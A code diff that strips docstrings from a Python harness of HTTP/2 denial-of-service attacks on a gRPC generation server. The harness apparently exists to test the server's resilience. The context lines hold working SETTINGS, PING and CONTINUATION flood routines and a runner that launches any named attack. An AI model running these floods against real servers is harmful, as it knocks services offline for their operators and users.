@@ -52,7 +52,6 @@ class AttackResult:
 
 
 def request(num_tokens: int, *, max_tokens: int = 64) -> bytes:
-    """Return an encoded GenerateRequest with a prompt of `num_tokens` tokens."""
     message = pb.GenerateRequest()
     message.token_prompt.ids.extend([7] * num_tokens)
     message.stopping.max_tokens = max_tokens
@@ -61,7 +60,6 @@ def request(num_tokens: int, *, max_tokens: int = 64) -> bytes:
 
 
 def once_request(num_tokens: int) -> bytes:
-    """Return an encoded GenerateOnceRequest with the same request as `request`."""
     once = pb.GenerateOnceRequest()
     once.generation.ParseFromString(request(num_tokens))
     return once.SerializeToString()
@@ -115,7 +113,6 @@ async def unfinished_calls(address: str, path: str = GENERATE, num: int = 200) -
 
 
 async def settings_flood(address: str, num: int = 100_000) -> AttackResult:
-    """Send SETTINGS frames, each of which the server must acknowledge."""
     async with h2.raw_connection(address) as connection:
         await connection.send(h2.settings() * num)
         await connection.until_received()
@@ -123,7 +120,6 @@ async def settings_flood(address: str, num: int = 100_000) -> AttackResult:
 
 
 async def ping_flood(address: str, num: int = 10_000) -> AttackResult:
-    """Send PING frames, each of which the server must answer."""
     async with h2.raw_connection(address) as connection:
         await connection.send(h2.frame(h2.PING, 0, 0, b"8 octets") * num)
         await connection.until_closed()
@@ -139,7 +135,6 @@ async def empty_data(address: str, num: int = 100_000) -> AttackResult:
 
 
 async def continuation_flood(address: str, num: int = 20_000) -> AttackResult:
-    """Send CONTINUATION frames without END_HEADERS."""
     async with h2.raw_connection(address) as connection:
         part = h2.frame(h2.CONTINUATION, 0, 1, h2.field(b"x-pad", b"a" * 1000))
         await connection.send(h2.headers(1, GENERATE, flags=0), part * num)
@@ -342,7 +337,6 @@ ATTACKS: dict[str, Attack] = {
 
 
 def main(arguments: list[str]) -> None:
-    """Run one attack; print its `AttackResult` as JSON on stdout."""
     name, address, *scale = arguments
     attack = ATTACKS[name]
     result = asyncio.run(_run(attack(address, *map(int, scale))))
